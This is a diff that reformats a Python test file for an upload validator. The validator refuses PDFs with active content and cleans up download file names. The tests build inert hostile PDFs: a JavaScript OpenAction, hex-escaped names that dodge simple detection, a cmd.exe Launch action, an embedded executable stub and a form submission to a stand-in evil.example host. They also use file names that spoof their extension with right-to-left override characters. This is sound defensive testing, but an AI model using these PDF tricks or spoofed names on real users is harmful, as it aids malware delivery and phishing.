@@ -1,5 +1,6 @@
 """Files that are not what they claim (issue 17, hole 5): PDFs with active content are refused, download names
 are plain and end in .pdf, and a clamd server (when configured) sees every upload; it failing refuses the file."""
+
 from __future__ import annotations
 
 import binascii
@@ -28,6 +29,7 @@ def stored_files(app) -> list[pathlib.Path]:
 
 
 # --- building PDFs in the test ------------------------------------------------------------------------------------
+
 
 def make_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
     """A PDF with the given object bodies (object 1 is the catalog), a cross-reference table and a trailer."""
@@ -72,37 +74,81 @@ def with_catalog(catalog: bytes, *extra: bytes) -> bytes:
 
 
 HOSTILE = {
-    "javascript_open_action": (with_catalog(b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", JS_ACTION),
-                               "/JavaScript"),
-    "hex_escaped_names": (with_catalog(b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
-                                       b"<</S/J#61v#61Script/J#53(app.alert\\(1\\))>>"), "/JavaScript"),
+    "javascript_open_action": (
+        with_catalog(b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", JS_ACTION),
+        "/JavaScript",
+    ),
+    "hex_escaped_names": (
+        with_catalog(
+            b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
+            b"<</S/J#61v#61Script/J#53(app.alert\\(1\\))>>",
+        ),
+        "/JavaScript",
+    ),
     "script_in_a_compressed_object_stream": (
         with_catalog(b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", object_stream({5: JS_ACTION})),
-        "/JavaScript"),
+        "/JavaScript",
+    ),
     "hex_escaped_in_a_hex_and_flate_object_stream": (
-        with_catalog(CATALOG, object_stream({5: b"<</S/J#61vaScript/JS(x)>>"}, ("ASCIIHexDecode", "FlateDecode"))),
-        "/JavaScript"),
-    "page_additional_action": (make_pdf([CATALOG, PAGES, b"<</Type/Page/Parent 2 0 R/AA<</O 4 0 R>>>>",
-                                         b"<</S/JavaScript/JS 5 0 R>>", stream(b"", b"app.alert(1)")]),
-                               "/JavaScript"),
-    "launch_action": (with_catalog(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>"),
-                      "/Launch"),
-    "embedded_file": (with_catalog(b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>",
-                                   b"<</Names[(a.exe) 5 0 R]>>", b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
-                                   stream(b"/Type/EmbeddedFile", b"MZ\x90\x00")), "/EmbeddedFile"),
-    "rich_media": (make_pdf([CATALOG, PAGES, b"<</Type/Page/Parent 2 0 R/Annots[4 0 R]>>",
-                             b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"]), "/RichMedia"),
+        with_catalog(
+            CATALOG, object_stream({5: b"<</S/J#61vaScript/JS(x)>>"}, ("ASCIIHexDecode", "FlateDecode"))
+        ),
+        "/JavaScript",
+    ),
+    "page_additional_action": (
+        make_pdf(
+            [
+                CATALOG,
+                PAGES,
+                b"<</Type/Page/Parent 2 0 R/AA<</O 4 0 R>>>>",
+                b"<</S/JavaScript/JS 5 0 R>>",
+                stream(b"", b"app.alert(1)"),
+            ]
+        ),
+        "/JavaScript",
+    ),
+    "launch_action": (
+        with_catalog(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>"),
+        "/Launch",
+    ),
+    "embedded_file": (
+        with_catalog(
+            b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>",
+            b"<</Names[(a.exe) 5 0 R]>>",
+            b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
+            stream(b"/Type/EmbeddedFile", b"MZ\x90\x00"),
+        ),
+        "/EmbeddedFile",
+    ),
+    "rich_media": (
+        make_pdf(
+            [
+                CATALOG,
+                PAGES,
+                b"<</Type/Page/Parent 2 0 R/Annots[4 0 R]>>",
+                b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>",
+            ]
+        ),
+        "/RichMedia",
+    ),
     "submit_form": (with_catalog(CATALOG, b"<</S/SubmitForm/F(https://evil.example/)>>"), "/SubmitForm"),
     "import_data": (with_catalog(CATALOG, b"<</S/ImportData/F(data.fdf)>>"), "/ImportData"),
-    "xfa_form": (with_catalog(b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>",
-                              stream(b"", b"<xdp:xdp/>")), "/XFA"),
+    "xfa_form": (
+        with_catalog(
+            b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>", stream(b"", b"<xdp:xdp/>")
+        ),
+        "/XFA",
+    ),
 }
 
 
 def upload(client, p, content: bytes, filename: str = "angebot.pdf"):
-    return client.post(f"/proposals/{p.id}/edit", data={
-        "title": "Netzwerk Plagwitz", "kind": "other", "file": (io.BytesIO(content), filename)},
-        content_type="multipart/form-data", follow_redirects=True)
+    return client.post(
+        f"/proposals/{p.id}/edit",
+        data={"title": "Netzwerk Plagwitz", "kind": "other", "file": (io.BytesIO(content), filename)},
+        content_type="multipart/form-data",
+        follow_redirects=True,
+    )
 
 
 @pytest.mark.parametrize("case", sorted(HOSTILE))
@@ -118,17 +164,27 @@ def test_a_pdf_with_active_content_is_refused_naming_what_was_found(app, draft, 
     assert stored_files(app) == []
 
 
-@pytest.mark.parametrize("content", [
-    PDF,
-    # an open action that only shows the first page, links (URI) and a plain form
-    with_catalog(b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]/AcroForm<</Fields[]>>>>",
-                 b"<</S/URI/URI(https://leipzig.de)>>"),
-    # binary stream data (an image, a font) that happens to contain the bytes of short names
-    with_catalog(CATALOG, stream(b"/Type/XObject/Subtype/Image/Width 1/Height 1",
-                                 b"\x00/JS\x00/AA>>/XFA " + os.urandom(2000))),
-    # an ordinary compressed object stream
-    with_catalog(CATALOG, object_stream({5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"})),
-], ids=["minimal", "goto_uri_form", "binary_data", "object_stream"])
+@pytest.mark.parametrize(
+    "content",
+    [
+        PDF,
+        # an open action that only shows the first page, links (URI) and a plain form
+        with_catalog(
+            b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]/AcroForm<</Fields[]>>>>",
+            b"<</S/URI/URI(https://leipzig.de)>>",
+        ),
+        # binary stream data (an image, a font) that happens to contain the bytes of short names
+        with_catalog(
+            CATALOG,
+            stream(
+                b"/Type/XObject/Subtype/Image/Width 1/Height 1", b"\x00/JS\x00/AA>>/XFA " + os.urandom(2000)
+            ),
+        ),
+        # an ordinary compressed object stream
+        with_catalog(CATALOG, object_stream({5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"})),
+    ],
+    ids=["minimal", "goto_uri_form", "binary_data", "object_stream"],
+)
 def test_ordinary_pdfs_pass(app, world, content):
     p = start_draft(world.call, world.applicant)
     add_attachment(p, world.applicant, "other", io.BytesIO(content), "ok.pdf")
@@ -137,9 +193,16 @@ def test_ordinary_pdfs_pass(app, world, content):
 
 
 def test_an_encrypted_pdf_whose_objects_cannot_be_read_is_refused(app, world):
-    content = make_pdf([CATALOG, PAGES, PAGE, b"<</Filter/Standard/V 4/R 4/O(x)/U(y)/P -4>>",
-                        stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", os.urandom(64))],
-                       trailer=b"/Encrypt 4 0 R/ID[<00><00>]")
+    content = make_pdf(
+        [
+            CATALOG,
+            PAGES,
+            PAGE,
+            b"<</Filter/Standard/V 4/R 4/O(x)/U(y)/P -4>>",
+            stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", os.urandom(64)),
+        ],
+        trailer=b"/Encrypt 4 0 R/ID[<00><00>]",
+    )
     p = start_draft(world.call, world.applicant)
     with pytest.raises(ActionRefused, match="verschlüsselt") as exc:
         add_attachment(p, world.applicant, "other", io.BytesIO(content), "geschuetzt.pdf")
@@ -166,18 +229,25 @@ def test_a_compressed_bomb_or_a_broken_stream_is_refused_quickly(app, world, cas
 
 # --- names -------------------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("hostile, shown", [
-    ("rechnung\u202efdp.exe", "rechnungfdp.exe.pdf"),  # right-to-left override: no longer shown as "…exe.pdf"
-    ("a\u2066b\u2067c\u2068d\u2069e\u202a\u202b\u202c\u200e\u200f\u061c.pdf", "abcde.pdf"),
-    ("zero\u200bwidth\u200c\u200d\u2060\ufeff.pdf", "zerowidth.pdf"),
-    ("hangul\u3164filler\u115f.pdf", "hangulfiller.pdf"),
-    ("evil.html", "evil.html.pdf"),
-    ("evil.PDF", "evil.PDF"),
-    ("trailing.pdf. . ", "trailing.pdf"),
-    (".pdf", "dokument.pdf"),
-    ("\u202e", "dokument.pdf"),
-    ("x" * 300 + ".exe", "x" * 196 + ".pdf"),
-])
+
+@pytest.mark.parametrize(
+    "hostile, shown",
+    [
+        (
+            "rechnung\u202efdp.exe",
+            "rechnungfdp.exe.pdf",
+        ),  # right-to-left override: no longer shown as "…exe.pdf"
+        ("a\u2066b\u2067c\u2068d\u2069e\u202a\u202b\u202c\u200e\u200f\u061c.pdf", "abcde.pdf"),
+        ("zero\u200bwidth\u200c\u200d\u2060\ufeff.pdf", "zerowidth.pdf"),
+        ("hangul\u3164filler\u115f.pdf", "hangulfiller.pdf"),
+        ("evil.html", "evil.html.pdf"),
+        ("evil.PDF", "evil.PDF"),
+        ("trailing.pdf. . ", "trailing.pdf"),
+        (".pdf", "dokument.pdf"),
+        ("\u202e", "dokument.pdf"),
+        ("x" * 300 + ".exe", "x" * 196 + ".pdf"),
+    ],
+)
 def test_a_file_name_loses_invisible_and_direction_characters_and_ends_in_pdf(hostile, shown):
     assert safe_filename(hostile) == shown
 
@@ -323,9 +393,14 @@ def test_a_refused_file_with_an_answer_to_a_request_keeps_the_typed_answer(app, 
     files_before = stored_files(app)
     client = app.test_client()
     login(client, "app@x.test")
-    resp = client.post(f"/proposals/{p.id}/answer", data={
-        "answer": "Anbei die Referenzen, mit vielen Grüßen",
-        "file": (io.BytesIO(HOSTILE["launch_action"][0]), "referenzen.pdf")}, content_type="multipart/form-data")
+    resp = client.post(
+        f"/proposals/{p.id}/answer",
+        data={
+            "answer": "Anbei die Referenzen, mit vielen Grüßen",
+            "file": (io.BytesIO(HOSTILE["launch_action"][0]), "referenzen.pdf"),
+        },
+        content_type="multipart/form-data",
+    )
     page = resp.get_data(as_text=True)
     assert resp.status_code == 422
     assert "„referenzen.pdf“ enthält aktive Inhalte (/Launch, /OpenAction)" in page
